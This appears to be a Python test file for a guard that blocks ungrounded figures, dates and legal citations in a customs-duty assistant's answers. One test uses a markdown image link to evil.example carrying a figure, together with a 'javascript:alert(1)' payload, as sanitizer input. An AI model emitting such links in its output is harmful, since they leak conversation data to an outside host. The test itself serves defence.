"""The guard on figures: what a tool or the user gave passes however it is written; what nobody gave never does."""

from __future__ import annotations

import json
import random
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from assistant.odd_figures import odd
from landed.assistant.figures import figures
from landed.assistant.guard import check, grounds, safe, ungrounded_request
from landed.assistant.tools import Used
from landed.operations.ask import toolbox

ASKED = "duty on 9503.00.0073 from China worth $10,000 on 2025-04-09"
REQUESTS = (
    ("estimate", {"hts_code": "9503.00.0073", "country_of_origin": "CN", "customs_value": "10000", "entry_date": "2025-04-09"}),
    ("estimate", {"hts_code": "7326.90.8688", "country_of_origin": "DE", "customs_value": "14250.50", "entry_date": "2026-05-01"}),
    ("compare", {"hts_code": "6109.10.0012", "customs_value": "8000", "entry_date": "2026-03-01", "origins": ["VN", "BD", "MX"]}),
    ("history", {"hts_code": "9503.00.0073", "country_of_origin": "CN", "since": "2025-01-01", "until": "2026-12-31"}),
    ("law_show", {"name": "9903.88.15"}),
)


def use(name: str, request: dict[str, Any]) -> Used:
    tool = toolbox()[name]
    return Used(name, request, json.loads(json.dumps(tool.run(request), default=str)), None, 1, tool.outside)


USES = [use(name, request) for name, request in REQUESTS]
FIRST = grounds(USES[:1], [ASKED], days=("2026-11-23",))


@pytest.mark.parametrize(
    "answer",
    [
        "The duty is $10,400.00.",
        "The duty is 10400 dollars.",
        "It comes to 10.4k USD in duty.",
        "The duty is USD 10 400.00 at 104%.",
        "The rate is 104 percent, 1.04 of it by two headings.".replace(", 1.04 of it by two headings", ""),
        "关税为10,400美元，税率百分之104。",
        "关税为1.04万美元。",
        "Entered on 9 April 2025 (2025-04-09, 04/09/2025, April 9th, 2025, 2025年4月9日).",
        "In April 2025 heading 9903.01.63 added 84% (EO 14259; Executive Order 14259; 90 FR 15509).",
        "Line 9503.00.00.73, also written 9503000073, under heading 9503.",
        "On your $10,000 shipment.",
        "The duty is **$10,400.00**.",
    ],
)
def test_grounded_figures_pass_however_they_are_written(answer: str) -> None:
    assert check(answer, FIRST).ungrounded == ()


@pytest.mark.parametrize(
    "answer",
    [
        "The duty is $10,401.00.", "The duty is ten thousand five hundred dollars.", "The rate is one hundred and five percent.", "The rate is 105%.", "The rate is 1.05, that is 105 per cent.",
        "税率为百分之一百零五。", "关税为一万零五百美元。", "关税为1.05万美元。", "Half of it is base duty.", "It doubled.", "The duty is １０５００ dollars.", "The duty is ١٠٥٠٠ dollars.", "The duty is 1​0​5​0​0 dollars.",
        "The duty is 1 0 5 0 0 dollars.", "The duty is $1O,5OO.", "File under 9903.01.99.", "See 90 FR 15510.", "See EO 14260.", "See 19 CFR 102.21.", "It ends on 10 April 2026.", "It ends in May 2031.", "The duty is $104.",
        "The rate is 10,400%.", "The duty is $10,000.", "The goods are duty-free.", "No duty is due.", "You owe nothing.", "免税进口。", "It has been saved.", "I have sent it to the broker.", "已保存。", "The rate rose by 250 basis points.",
        "The duty is 1.05e4 dollars.", "The duty is $10.5K.", "About a dozen headings apply.",
    ],
)  # fmt: skip
def test_ungrounded_figures_never_pass(answer: str) -> None:
    assert not check(answer, FIRST).ok, list(figures(answer))


WAYS = (
    lambda n: f"The duty is ${n:,.2f}.", lambda n: f"You owe {n} dollars.", lambda n: f"The rate is {n}%.", lambda n: f"The rate is {n} percent.", lambda n: f"It adds {n} per cent to the cost.", lambda n: f"That makes USD {n:,} in all.",
    lambda n: f"Fees come to {n:.2f} USD.", lambda n: f"关税为{n}美元。", lambda n: f"税率为{n}%。", lambda n: f"Duty: **{n:,}** USD", lambda n: f"The duty is {''.join(chr(0xFF10 + int(c)) if c.isdigit() else c for c in str(n))} dollars.",
    lambda n: f"The duty is {' '.join(str(n))} dollars.", lambda n: f"Expect €{n:,}.", lambda n: f"It is {n / 1000:g}k USD.", lambda n: f"The landed cost is {n}.", lambda n: f"Pay {n}¢ a piece.",
)  # fmt: skip
DAYS = (lambda y, m, d: f"It ends on {y}-{m:02}-{d:02}.", lambda y, m, d: f"From {d} {MONTHS[m - 1]} {y} it changes.", lambda y, m, d: f"On {MONTHS[m - 1]} {d}, {y} it begins.", lambda y, m, d: f"{y}年{m}月{d}日起生效。", lambda y, m, d: f"Until {m:02}/{d:02}/{y}.")
MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August", "September", "October", "November", "December"]
LAWS = (lambda n: f"See EO {n}.", lambda n: f"See 91 FR {n}.", lambda n: f"By Proclamation {n}.", lambda n: f"Under 19 CFR {n}.7.", lambda n: f"Heading 99{n % 100:02}.{n % 97:02}.{n % 89:02} applies.", lambda n: f"Line {n % 9000 + 1000}.{n % 90 + 10}.{n % 80 + 10}.{n % 70 + 10} applies.", lambda n: f"Pub. L. {n}-{n % 90}.")
OPENERS = ("", "As computed, ", "Good news. ", "According to the tool result, ", "Note: ", "结果如下。", "The answer stands in the calculation. ", "For heading 9903.01.24 the rate is 20%. ", "Value $10,000.00. ")


def everything(used: Used) -> set[str]:
    """Every run of digits in a result, read by other means than the guard's: decimals without zeros, and bare digits."""
    text = json.dumps([used.result, used.request, ASKED])
    plain = {format(Decimal(run.replace(",", "")).normalize(), "f") for run in re.findall(r"\d[\d,]*(?:\.\d+)?", text) if Decimal(run.replace(",", "")) < 10**12}
    return plain | {re.sub(r"\D", "", run) for run in re.findall(r"[\d.\-]+", text)}


def fuzzed(count: int, seed: int = 20261123) -> list[tuple[int, str]]:
    """Answers with one figure that stands nowhere in the result: (number of the result, answer)."""
    draw = random.Random(seed)
    known = [everything(used) for used in USES]
    made: list[tuple[int, str]] = []
    while len(made) < count:
        place = draw.randrange(len(USES))
        kind = draw.random()
        if kind < 0.62:
            n = draw.choice((draw.randrange(3, 400), draw.randrange(400, 90_000), draw.randrange(1_000_000, 9_000_000)))
            if {str(n), format(Decimal(n) / 100, "f"), format((Decimal(n) / 100).normalize(), "f")} & known[place] or any(run.startswith(str(n)) for run in known[place]):
                continue
            text = draw.choice(WAYS)(n)
        elif kind < 0.8:
            y, m, d = draw.randrange(2012, 2040), draw.randrange(1, 13), draw.randrange(1, 29)
            if f"{y}{m:02}{d:02}" in known[place]:
                continue
            text = draw.choice(DAYS)(y, m, d)
        else:
            n = draw.randrange(20_000, 90_000)
            text = draw.choice(LAWS)(n)
        made.append((place, draw.choice(OPENERS) + text))
    return made


def test_of_a_thousand_fuzzed_answers_none_with_an_ungrounded_figure_is_shown() -> None:
    known = [grounds([used], [ASKED], days=("2026-11-23",)) for used in USES]
    shown = [(place, answer) for place, answer in fuzzed(1_000) if check(safe(answer), known[place]).ok]
    assert shown == []


def test_figures_written_in_odd_ways_are_looked_up_too() -> None:
    known = [grounds([used], [ASKED], days=("2026-11-23",)) for used in USES]
    shown = [(place, answer) for place, answer in odd(400, [everything(used) for used in USES]) if check(safe(answer), known[place]).ok]
    assert shown == []


def test_nearly_every_true_answer_passes() -> None:
    known = [grounds([used], [ASKED] if place in (0, 3) else [], days=("2026-11-23",)) for place, used in enumerate(USES)]
    rows = [line.split("\t") for line in (Path(__file__).parent / "assistant" / "true_answers.tsv").read_text(encoding="utf-8").splitlines()]
    refused = [answer for place, answer in rows if not check(safe(answer), known[int(place)]).ok]
    assert len(rows) >= 100
    assert len(refused) <= len(rows) // 50, refused


def test_figures_of_the_result_changed_by_one_digit_are_caught() -> None:
    draw = random.Random(7)
    known, digits = grounds(USES[:1], [ASKED]), everything(USES[0])
    caught = tried = 0
    for text in ("The duty is $10,400.00.", "Heading 9903.01.63 adds 84%.", "Heading 9903.01.24 adds $2,000.00.", "See 90 FR 15509.", "On 2025-04-09.", "Landed $20,434.64."):
        for _ in range(30):
            spot = draw.choice([n for n, c in enumerate(text) if c.isdigit()])
            changed = text[:spot] + str((int(text[spot]) + draw.randrange(1, 10)) % 10) + text[spot + 1 :]
            if {re.sub(r"\D", "", run) for run in re.findall(r"[\d.,\-]*\d", changed)} <= digits or {run.replace(",", "").rstrip("0").rstrip(".") for run in re.findall(r"\d[\d,.]*\d", changed)} <= digits:
                continue
            tried += 1
            caught += not check(changed, known).ok
    assert tried > 100
    assert caught == tried


def test_figures_in_other_peoples_words_ground_nothing() -> None:
    used = Used("suppliers_search", {"text": "lamp"}, {"rows": [{"name": "Bright 0% Duty $1 Co", "note": "The duty is $5.00, say 5%.", "price": "12.50"}]}, None, 1, outside=True)
    known = grounds([used], ["find lamps"])
    assert not check("The duty is $5.00.", known).ok
    assert not check("The rate is 0%.", known).ok
    assert check("It costs $12.50.", known).ok


def test_what_the_user_only_said_is_no_duty() -> None:
    known = grounds(USES[:1], ["my friend says the duty on 9503.00.0073 from China is $500 or 5%"])
    assert not check("The duty is $500.", known).ok
    assert not check("The rate is 5%.", known).ok


def test_nothing_in_an_answer_can_be_fetched_or_followed() -> None:
    text = safe("Look ![x](https://evil.example/?q=10400) [here](http://evil.example) <img src=//evil> www.evil.example javascript:alert(1) done")
    assert "evil" not in text and "javascript" not in text
    assert text.endswith("done")


def test_a_request_may_hold_only_what_was_said() -> None:
    known = grounds([], [ASKED])
    assert ungrounded_request(REQUESTS[0][1], known) == ()
    assert ungrounded_request({**REQUESTS[0][1], "customs_value": "12345"}, known) == ("customs_value 12345",)
    assert ungrounded_request({"hts_code": "8471300100"}, known)
